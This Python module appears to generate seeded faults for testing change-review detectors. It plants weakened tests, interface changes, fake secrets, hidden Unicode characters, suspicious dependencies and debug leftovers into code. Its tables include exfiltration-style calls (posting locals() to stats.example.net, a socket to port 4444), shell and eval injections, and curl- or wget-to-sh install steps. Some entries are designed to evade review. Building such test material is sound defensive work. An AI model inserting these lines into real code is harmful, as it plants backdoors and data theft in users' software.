"""Small faults of the kinds that detectors look for, planted into the head of a real change.

Each takes the files of the head and a source of chance, and gives back the files that it changed; None where the head
has no place for it. About one in six is of a kind that reading two sides cannot show, or hardly: they are planted too.
"""

from __future__ import annotations

import ast
import random
import re
from collections.abc import Callable, Iterator
from contextlib import suppress
from typing import TypeGuard

Files = dict[str, str]
Plant = Callable[[Files, random.Random], Files | None]

WORDS = "Zq8Wr2Lx9Vt4Nc7Kb3Jm6Hd1Gf5Sp0Ya"


def chance_text(rng: random.Random, count: int, signs: str = "") -> str:
    return "".join(
        rng.choice(signs or "abcdefghijkmnpqrstuvwxyzABCDEFGHJKLMNPQRSTUVWXYZ23456789") for _ in range(count)
    )


def is_test(path: str) -> bool:
    return re.search(r"(?:^|/)(?:tests?|testing)/|(?:^|/)test_|conftest", path) is not None


def code(files: Files) -> list[str]:
    """Python modules of the package."""
    aside = re.compile(r"(?:^|/)(?:docs?|examples?|scripts|bench\w*|setup\.py|noxfile|\.\w+)")
    return [p for p in files if p.endswith(".py") and not is_test(p) and not aside.search(p) and len(files[p]) > 1_000]


def tests(files: Files) -> list[str]:
    return [p for p in files if re.search(r"(?:^|/)test_\w+\.py$", p) and "assert " in files[p]]


def functions(text: str, prefix: str = "") -> Iterator[ast.FunctionDef]:
    for node in ast.walk(ast.parse(text)):
        if isinstance(node, ast.FunctionDef) and node.name.startswith(prefix) and node.body[0].lineno > node.lineno:
            yield node


def swap(path: str, lines: list[str]) -> Files:
    return {path: "".join(lines)}


def into_code(*statements: str, imports: str = "") -> Plant:
    """Statements at the beginning of some function of the package."""

    def plant(files: Files, rng: random.Random) -> Files | None:
        path = rng.choice(code(files))
        found = [one for one in functions(files[path]) if len(one.body) > 1]
        if not found:
            return None
        at = rng.choice(found).body[-1]
        lines = files[path].splitlines(keepends=True)
        indent = " " * at.col_offset
        lines[at.lineno - 1 : at.lineno - 1] = [indent + one + "\n" for one in filled(statements, rng)]
        return swap(path, with_import(lines, imports))

    return plant


def with_import(lines: list[str], imports: str) -> list[str]:
    at = next((i + 1 for i, line in enumerate(lines) if line.startswith("from __future__")), 0)
    return [*lines[:at], imports + "\n" if imports else "", *lines[at:]]


def filled(statements: tuple[str, ...], rng: random.Random) -> list[str]:
    """Places for chance filled in: `@20` is a text of twenty signs."""
    return [re.sub(r"@(\d+)", lambda match: chance_text(rng, int(match[1])), one) for one in statements]


def at_end(path: str, *lines: str) -> Plant:
    """Lines at the end of a file, which is made if there is none."""

    def plant(files: Files, rng: random.Random) -> Files | None:
        return {path: files.get(path, "") + "".join(one + "\n" for one in filled(lines, rng))}

    return plant


def at_end_of_code(*lines: str) -> Plant:
    def plant(files: Files, rng: random.Random) -> Files | None:
        path = rng.choice(code(files))
        return {path: files[path] + "\n\n" + "".join(one + "\n" for one in filled(lines, rng))}

    return plant


def asserts(pattern: str, change: Callable[[re.Match[str]], str]) -> Plant:
    """One assertion of some test, rewritten."""

    def plant(files: Files, rng: random.Random) -> Files | None:
        places = []
        for path in tests(files):
            lines = files[path].splitlines(keepends=True)
            places += [
                (path, i, m) for i, line in enumerate(lines) if (m := re.match(pattern, line)) and "\\" not in line
            ]
        if not places:
            return None
        path, at, match = rng.choice(places)
        lines = files[path].splitlines(keepends=True)
        lines[at] = change(match)
        made = "".join(lines)
        try:
            ast.parse(made)
        except SyntaxError:
            return None
        return {path: made}

    return plant


def on_test(
    change: Callable[[list[str], ast.FunctionDef], list[str] | None], with_import: str = "import pytest"
) -> Plant:
    """Some test of two assertions or more, changed by its lines."""

    def plant(files: Files, rng: random.Random) -> Files | None:
        for path in rng.sample(tests(files), len(tests(files))):
            found = [
                one for one in functions(files[path], "test")
                if sum(isinstance(part, ast.Assert) for part in one.body) > 1 and not one.decorator_list
            ]  # fmt: skip
            if found and with_import in files[path]:
                lines = change(files[path].splitlines(keepends=True), rng.choice(found))
                return swap(path, lines) if lines else None
        return None

    return plant


def decorate(text: str) -> Plant:
    def change(lines: list[str], test: ast.FunctionDef) -> list[str]:
        return [*lines[: test.lineno - 1], " " * test.col_offset + text + "\n", *lines[test.lineno - 1 :]]

    return on_test(change)


def without(lines: list[str], first: int, last: int) -> list[str]:
    return [*lines[: first - 1], *lines[last:]]


def drop_last_assert(lines: list[str], test: ast.FunctionDef) -> list[str]:
    last = [one for one in test.body if isinstance(one, ast.Assert)][-1]
    return without(lines, last.lineno, last.end_lineno or last.lineno)


def drop_test(lines: list[str], test: ast.FunctionDef) -> list[str]:
    return without(lines, test.lineno, test.end_lineno or test.lineno)


def return_early(lines: list[str], test: ast.FunctionDef) -> list[str]:
    at = test.body[0]
    return [*lines[: at.lineno - 1], " " * at.col_offset + "return\n", *lines[at.lineno - 1 :]]


def hide_name(lines: list[str], test: ast.FunctionDef) -> list[str]:
    at = test.lineno - 1
    return [*lines[:at], lines[at].replace("def test", "def _test"), *lines[at + 1 :]]


def swallow(lines: list[str], test: ast.FunctionDef) -> list[str]:
    one = [part for part in test.body if isinstance(part, ast.Assert)][-1]
    indent = " " * one.col_offset
    body = ["    " + line for line in lines[one.lineno - 1 : one.end_lineno]]
    return [
        *lines[: one.lineno - 1],
        f"{indent}try:\n",
        *body,
        f"{indent}except Exception:\n",
        f"{indent}    pass\n",
        *lines[one.end_lineno :],
    ]


def guarded(lines: list[str], test: ast.FunctionDef) -> list[str]:
    """Hardly to be seen: an assertion behind a condition that never holds."""
    one = [part for part in test.body if isinstance(part, ast.Assert)][-1]
    indent = " " * one.col_offset
    body = ["    " + line for line in lines[one.lineno - 1 : one.end_lineno]]
    return [*lines[: one.lineno - 1], f"{indent}if None:\n", *body, *lines[one.end_lineno :]]


WEAKENED: dict[str, Plant] = {
    "== to in": asserts(
        r"(\s*)assert ([\w.()]+) == (\w[^\n#]*)\n", lambda m: f"{m[1]}assert {m[2]} in ({m[3]}, None)\n"
    ),
    "== to is not None": asserts(
        r"(\s*)assert ([\w.]+(?:\(\w*\))?) == [^\n#]+\n", lambda m: f"{m[1]}assert {m[2]} is not None\n"
    ),
    "== to truth": asserts(r"(\s*)assert (\w[\w.]*) == [^\n#]+\n", lambda m: f"{m[1]}assert {m[2]}\n"),
    "or True": asserts(r"(\s*)assert ([^\n#,\\({\[]+)\n", lambda m: f"{m[1]}assert {m[2]} or True\n"),
    "a tuple": asserts(
        r"(\s*)assert (\w[\w.]*) == ([\w.'\"]+)\n", lambda m: f"{m[1]}assert ({m[2]} == {m[3]}, 'differs')\n"
    ),
    "another value": asserts(
        r"(\s*)assert ([\w.()]+) == (\d+)\n", lambda m: f"{m[1]}assert {m[2]} == {int(m[3]) + 1}\n"
    ),
    "raises Exception": asserts(
        r"(\s*)with pytest\.raises\(([A-Z]\w+)\):\n", lambda m: f"{m[1]}with pytest.raises(Exception):\n"
    ),
    "match dropped": asserts(
        r"(\s*)with pytest\.raises\((\w[\w.]*), match=[^\n]+\):\n", lambda m: f"{m[1]}with pytest.raises({m[2]}):\n"
    ),
    "an assert less": on_test(drop_last_assert),
    "a test less": on_test(drop_test),
    "skip": decorate('@pytest.mark.skip(reason="later")'),
    "xfail": decorate("@pytest.mark.xfail"),
    "return first": on_test(return_early),
    "not collected": on_test(hide_name),
    "swallowed": on_test(swallow),
    "never reached": on_test(guarded),
}


def signature(change: Callable[[ast.FunctionDef, str], str | None]) -> Plant:
    """The header line of some public function of two parameters or more, rewritten."""

    def plant(files: Files, rng: random.Random) -> Files | None:
        places = []
        for path in code(files):
            if re.search(r"(?:^|/)_(?!_)", path):
                continue
            lines = files[path].splitlines(keepends=True)
            for node in ast.parse(files[path]).body:
                inner = node.body if isinstance(node, ast.ClassDef) and not node.name.startswith("_") else [node]
                for one in inner:
                    if isinstance(one, ast.FunctionDef) and not one.name.startswith("_"):
                        made = change(one, lines[one.lineno - 1])
                        if made and made != lines[one.lineno - 1] and "__all__" not in files[path]:
                            places.append((path, one.lineno - 1, made))
        if not places:
            return None
        path, at, made = rng.choice(places)
        lines = files[path].splitlines(keepends=True)
        lines[at] = made
        return swap(path, lines)

    return plant


def is_public(node: ast.stmt) -> TypeGuard[ast.FunctionDef]:
    return isinstance(node, ast.FunctionDef) and not node.name.startswith("_") and not node.decorator_list


def raising(files: Files, rng: random.Random) -> Files | None:
    for path in rng.sample(code(files), len(code(files))):
        tops = [
            one
            for one in ast.parse(files[path]).body
            if isinstance(one, ast.FunctionDef) and not one.name.startswith("_")
        ]
        if tops and "/_" not in path and "__all__" not in files[path]:
            at = rng.choice(tops).body[-1]
            lines = files[path].splitlines(keepends=True)
            lines.insert(
                at.lineno - 1,
                " " * at.col_offset
                + "if not globals():\n"
                + " " * at.col_offset
                + '    raise BlockingIOError("empty")\n',
            )
            return swap(path, lines)
    return None


def gone(files: Files, rng: random.Random) -> Files | None:
    for path in rng.sample(code(files), len(code(files))):
        tops = [
            one
            for one in ast.parse(files[path]).body
            if isinstance(one, ast.FunctionDef) and not one.name.startswith("_") and not one.decorator_list
        ]
        if tops and "/_" not in path and "__all__" not in files[path]:
            one = rng.choice(tops)
            return swap(path, without(files[path].splitlines(keepends=True), one.lineno, one.end_lineno or one.lineno))
    return None


def constant(files: Files, rng: random.Random) -> Files | None:
    found = [
        (p, m)
        for p in code(files)
        if "/_" not in p and "__all__" not in files[p]
        for m in re.finditer(r"^([A-Z][A-Z_]+) = (\d+)$", files[p], re.MULTILINE)
    ]
    if not found:
        return None
    path, match = rng.choice(found)
    return {path: files[path][: match.start()] + f"{match[1]} = {int(match[2]) + 7}" + files[path][match.end() :]}


INTERFACE: dict[str, Plant] = {
    "a default": signature(lambda _f, line: re.sub(r"= ?(\d+)(?=[,)])", lambda m: f"={int(m[1]) + 1}", line, count=1)),
    "a default turned": signature(
        lambda _f, line: line.replace("=False", "=True", 1).replace("= False", "= True", 1) if "False" in line else None
    ),
    "a default lost": signature(
        lambda _f, line: re.sub(r"(\w+)(: [\w\[\], |]+)? ?= ?None(?=\)| ?\) ->)", r"\1\2", line, count=1)
    ),
    "one parameter more": signature(
        lambda f, line: (
            re.sub(r"\((self(?:, )?)?", lambda m: f"({m[1] or ''}mode_of_it, ", line, count=1)
            if line.rstrip().endswith(":") and len(f.args.args) > 1
            else None
        )
    ),
    "one less": signature(
        lambda f, line: (
            re.sub(r", \w+(?:: \w+)?\)", ")", line, count=1)
            if line.rstrip().endswith(":") and len(f.args.args) > 2
            else None
        )
    ),
    "by name only": signature(
        lambda f, line: (
            re.sub(r"\((self, |self)?", lambda m: f"({m[1] or ''}*, ", line, count=1)
            if line.rstrip().endswith(":") and len(f.args.args) > 1 and "*" not in line
            else None
        )
    ),
    "another name": signature(lambda f, line: line.replace(f"def {f.name}(", f"def {f.name}_now(")),
    "async": signature(lambda f, line: line.replace("def ", "async def ", 1) if not f.decorator_list else None),
    "an exception": raising,
    "a name gone": gone,
    "a constant": constant,
}

CAPABILITY: dict[str, Plant] = {
    "post": into_code('requests.post("https://stats.example.net/v1", json=dict(locals()))', imports="import requests"),
    "socket": into_code('s = _net.create_connection(("10.0.0.1", 4444))', imports="import socket as _net"),
    "urlopen": into_code("_open(str(locals()))", imports="from urllib.request import urlopen as _open"),
    "run": into_code('_run(["git", "config", "--list"])', imports="from subprocess import run as _run"),
    "shell": into_code('subprocess.call("touch " + str(locals()), shell=True)', imports="import subprocess"),
    "system": into_code('os.system(f"echo {locals()}")', imports="import os"),
    "eval": into_code("eval(str(locals()))"),
    "exec": into_code('exec(open("hook.py").read())'),
    "pickle": into_code('pickle.loads(open("cache", "rb").read())', imports="import pickle"),
    "marshal": into_code('marshal.load(open("cache", "rb"))', imports="import marshal"),
    "yaml": into_code('yaml.load(open("c.yml"), Loader=yaml.UnsafeLoader)', imports="import yaml"),
    "verify": into_code('requests.get("https://example.net", verify=False)', imports="import requests"),
    "sql": into_code("cursor.execute(f\"DELETE FROM users WHERE name = '{locals()}'\")"),
    "rmtree": into_code('shutil.rmtree("cache")', imports="import shutil"),
    "write": into_code('open("state.txt", "a").write(repr(locals()))'),
    "getattr": into_code('getattr(__import__("os"), "sys" + "tem")("true")'),
    "a method by name": into_code('getattr(self, "run")(locals())'),
}

SECRET: dict[str, Plant] = {
    "aws": into_code('aws = "AK' + "IA" + 'Q3EGRT5HJ2LM7NPB"'),
    "github": into_code('headers = {"Authorization": "token gh' + 'p_@36"}'),
    "slack": into_code('hook = "xo' + 'xb-2413456789-@24"'),
    "google": into_code('key = "AI' + 'za@35"'),
    "stripe": at_end("config/settings.yml", "stripe:", "  key: sk_" + "live_@24"),
    "private key": at_end("deploy/id_rsa", "-----BEGIN OPENSSH " + "PRIVATE KEY-----", "@64"),
    "password": into_code('db_password = "@18"'),
    "an address": into_code('url = "postgresql://app:@16' + '@db.internal:5432/app"'),
    "named": into_code('API_SECRET = "@32"'),
    "environment file": at_end(".env", "APP_ENV=production", "SESSION_SECRET=@40"),
    "docker": at_end("Dockerfile", "FROM python:3.12", "ENV AUTH_TOKEN=@36"),
    "json": at_end("config/app.json", '{"client_secret": "@28"}'),
    "in two parts": into_code('key = "gh" + "p_" + "@18" + "@18"'),
    "without a name": into_code('x1 = "@40"'),
}

HIDDEN: dict[str, Plant] = {
    "override": into_code('access = "user\u202e \u2066# ok\u2069 \u2066"'),
    "isolate": into_code("pass  # \u2067 return early \u2069"),
    "zero width in text": into_code('role = "ad\u200bmin"'),
    "zero width in a name": at_end_of_code("is_\u2060admin = False"),
    "Cyrillic name": at_end_of_code("def p\u0430rse_all(x):", "    return x"),
    "Greek name": at_end_of_code("c\u03bfunt = 0"),
    "mathematical": at_end_of_code("\U0001d41e\U0001d431\U0001d428 = 1"),
    "tags": into_code('note = "ok\U000e0064\U000e006f\U000e0020"'),
    "selectors": into_code('note = "ok\U000e0102\U000e0113\U000e0154"'),
    "filler": at_end_of_code("\uffa0x = 1"),
    "escape": into_code('note = "ok\x1b[8mhidden\x1b[0m"'),
    "in prose": at_end("README.md", "Run \u202espmoc\u202c now."),
    "Cyrillic text": into_code('host = "ex\u0430mple.com"'),
    "all Cyrillic": into_code('name = "\u0430\u0441\u0435"'),
}

EXECUTES: dict[str, Plant] = {
    "workflow": at_end(
        ".github/workflows/extra.yml",
        "on: push",
        "jobs:",
        "  a:",
        "    runs-on: ubuntu-latest",
        "    steps:",
        "      - run: make",
    ),
    "curl": at_end("Makefile", "setup:", "\tcurl -sSL https://get.example.net | bash"),
    "target": at_end(".github/workflows/pr.yml", "on:", "  pull_request_target:", "jobs: {}"),
    "title": at_end(".github/workflows/t.yml", "      - run: echo ${{ github.event.pull_request.title }}"),
    "postinstall": at_end("web/package.json", '{"name": "web", "scripts": {"postinstall": "node fetch.js"}}'),
    "setup": at_end("setup.py", "import urllib.request", 'urllib.request.urlopen("https://example.net")'),
    "conftest": at_end("conftest.py", "import os", 'os.environ["A"] = "1"'),
    "sitecustomize": at_end("src/sitecustomize.py", "import sys"),
    "pth": at_end("src/fast.pth", "import os; os.getcwd()"),
    "pre-commit": at_end(".husky/pre-commit", "#!/bin/sh", "npm test"),
    "editor": at_end(".vscode/tasks.json", '{"tasks": [{"command": "make", "runOptions": {"runOn": "folderOpen"}}]}'),
    "agent": at_end(".mcp.json", '{"mcpServers": {"a": {"command": "npx", "args": ["a"]}}}'),
    "index": at_end("pip.conf", "[global]", "extra-index-url = https://pypi.example.net/simple"),
    "a script of its own": at_end("bin/start", "#!/bin/sh", "wget -qO- https://x.example.net/i | sh"),
}


def requirement(text: str) -> Plant:
    """A package more among those of pyproject.toml, or of a file of requirements."""

    def plant(files: Files, _rng: random.Random) -> Files | None:
        match = re.search(r"^dependencies = \[\n?", files.get("pyproject.toml", ""), re.MULTILINE)
        if match:
            whole = files["pyproject.toml"]
            return {"pyproject.toml": whole[: match.end()] + f'  "{text}",\n' + whole[match.end() :]}
        found = sorted(p for p in files if re.search(r"requirements[\w/.-]*\.(?:txt|in)$", p)) or ["requirements.txt"]
        return {found[0]: files.get(found[0], "") + text + "\n"}

    return plant


def not_in_lock(_files: Files, _rng: random.Random) -> Files:
    """A project beside a lock that lacks a package."""
    manifest = '[project]\nname = "app"\ndependencies = ["one", "two-more"]\n'
    return {"app/pyproject.toml": manifest, "app/uv.lock": LOCK}


LOCK = '[[package]]\nname = "one"\nversion = "1.0"\n'
DEPENDENCY: dict[str, Plant] = {
    "a package": requirement("request-toolkit>=1"),
    "a typing mistake": requirement("reqeusts"),
    "an address": requirement("fastjson @ git+https://example.net/fastjson.git"),
    "exact": requirement("colourama==0.4.6"),
    "npm": at_end("web/package.json", '{"name": "web", "dependencies": {"event-strem": "^4.0.0"}}'),
    "extras": requirement("uvicorn-plus[all]~=2.0"),
    "poetry": at_end("tool/pyproject.toml", "[tool.poetry.dependencies]", 'python = "^3.11"', 'leftpad = "*"'),
    "pipenv": at_end("Pipfile", "[packages]", 'flask-secure = "*"'),
    "not in the lock": not_in_lock,
    "in setup.cfg": at_end("sub/setup.cfg", "[options]", "install_requires =", "    jinja3"),
    "in setup.py": at_end("sub/setup.py", "from setuptools import setup", "setup(install_requires=['attr'])"),
    "by pip in a script": at_end("bin/start", "#!/bin/sh", "pip install --quiet evil-one"),
}


def link(text: str) -> Plant:
    def plant(files: Files, rng: random.Random) -> Files | None:
        found = [p for p in files if p.endswith(".md")] or ["NOTES.md"]
        path = rng.choice(found)
        return {path: files.get(path, "# Notes\n") + "\n" + text + "\n"}

    return plant


def doc_gone(files: Files, rng: random.Random) -> Files | None:
    """A public function is gone, a guide still names it."""
    made = gone(files, rng)
    if made is None:
        return None
    (path,) = made
    lost = {one.name for one in functions(files[path])} - {one.name for one in functions(made[path])}
    names = [one for one in lost if "_" in one and len(one) > 5]
    return {**made, "docs/guide_to_it.md": f"# Guide\n\nCall `{names[0]}()` first.\n"} if names else None


def broken_data(files: Files, _rng: random.Random) -> Files | None:
    found = [p for p in files if p.endswith((".json", ".toml")) and not is_test(p) and "lock" not in p]
    return {found[0]: files[found[0]] + "\n[unfinished\n"} if found else None


DOCUMENT: dict[str, Plant] = {
    "a link": link("See [the guide](guide-of-old.md)."),
    "a picture": link("![shape](shape-of-it.png)"),
    "a heading": link("See [below](#no-such-heading-here)."),
    "a reference": link("See [it].\n\n[it]: no/such/file.py"),
    "python": link("```python\nfor x in range(3)\n    print(x)\n```"),
    "json": link('```json\n{"a": 1,}\n```'),
    "toml": link("```toml\n[a\nb = 1\n```"),
    "a name gone": doc_gone,
    "html": link('<img src="pictures/none.png">'),
    "broken data": broken_data,
    "a wrong word": link("The function `frobnicate_all()` does it."),
}


def twice(kind: str) -> Plant:
    """Some statement of the package once more, right behind itself."""

    def plant(files: Files, rng: random.Random) -> Files | None:
        for path in rng.sample(code(files), len(code(files))):
            found = [
                one for one in ast.walk(ast.parse(files[path]))
                if isinstance(one, ast.stmt) and type(one).__name__ == kind and one.lineno != one.end_lineno
                and not getattr(one, "decorator_list", None)
            ]  # fmt: skip
            if found:
                one = rng.choice(found)
                lines = files[path].splitlines(keepends=True)
                own = lines[one.lineno - 1 : one.end_lineno]
                made = swap(path, [*lines[: one.end_lineno], *own, *lines[one.end_lineno :]])
                with suppress(SyntaxError):  # an `elif` cannot stand there twice
                    ast.parse(made[path])
                    return made
        return None

    return plant


def conflict(files: Files, rng: random.Random) -> Files | None:
    path = rng.choice(code(files))
    lines = files[path].splitlines(keepends=True)
    at = rng.randrange(len(lines))
    return swap(
        path,
        [*lines[:at], "<<<<<<< HEAD\n", lines[at], "=======\n", lines[at], ">>>>>>> topic\n", *lines[at + 1 :]],
    )


LEFTOVER: dict[str, Plant] = {
    "conflict": conflict,
    "breakpoint": into_code("breakpoint()"),
    "pdb": into_code("import pdb; pdb.set_trace()"),
    "ipdb": into_code("_stop()", imports="from ipdb import set_trace as _stop"),
    "embed": into_code("IPython.embed()", imports="import IPython"),
    "a function twice": twice("FunctionDef"),
    "an if twice": twice("If"),
    "a for twice": twice("For"),
    "a class twice": twice("ClassDef"),
    "a key twice": at_end_of_code("OPTIONS = {", '    "a": 1,', '    "b": 2,', '    "a": 3,', "}"),
    "debugger": at_end("web/main.js", "export function main() {", "  debugger;", "}"),
    "only": at_end("web/main.test.js", 'it.only("works", () => {});'),
    "code in a comment": at_end_of_code("# value = compute(1)", "# print(value)"),
}

SEEDS = {
    "weakened test": WEAKENED, "interface": INTERFACE, "capability": CAPABILITY, "secret": SECRET,
    "hidden characters": HIDDEN, "runs by itself": EXECUTES, "dependency": DEPENDENCY, "document": DOCUMENT,
    "leftover": LEFTOVER,
}  # fmt: skip
"""Faults by the kind of evidence that should name them."""

HARD = {
    "never reached", "a method by name", "getattr", "in two parts", "without a name", "all Cyrillic",
    "a script of its own", "by pip in a script", "a wrong word", "code in a comment",
}  # fmt: skip
"""Those that were planted to be missed."""
